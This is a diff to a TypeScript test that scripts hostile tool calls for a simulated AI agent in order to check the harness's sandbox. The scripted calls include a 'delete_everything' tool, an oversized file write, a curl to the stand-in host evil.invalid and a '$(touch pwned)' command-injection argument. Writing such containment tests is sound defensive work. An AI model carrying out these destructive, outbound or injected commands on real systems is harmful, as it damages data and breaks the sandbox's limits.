@@ -29,7 +29,8 @@ function hostileTurns(outside: string): ScriptedTurn[] {
         { name: "delete_everything", input: {} },
       ],
     },
-    { toolCalls: [write("src/huge.txt", "a".repeat(50 * 1024 * 1024))] },
+    // Past the tool's file limit, inside the brain's reply cap (a bigger reply is cut before any tool sees it).
+    { toolCalls: [write("src/huge.txt", "a".repeat(2 * 1024 * 1024))] },
     { toolCalls: [{ name: "run_command", input: { argv: ["curl", "http://evil.invalid"] } }] },
     { toolCalls: [{ name: "run_command", input: { argv: ["node", "--version", "$(touch pwned)"] } }] },
     { toolCalls: [{ name: "finish", input: { summary: "tried everything" } }] },
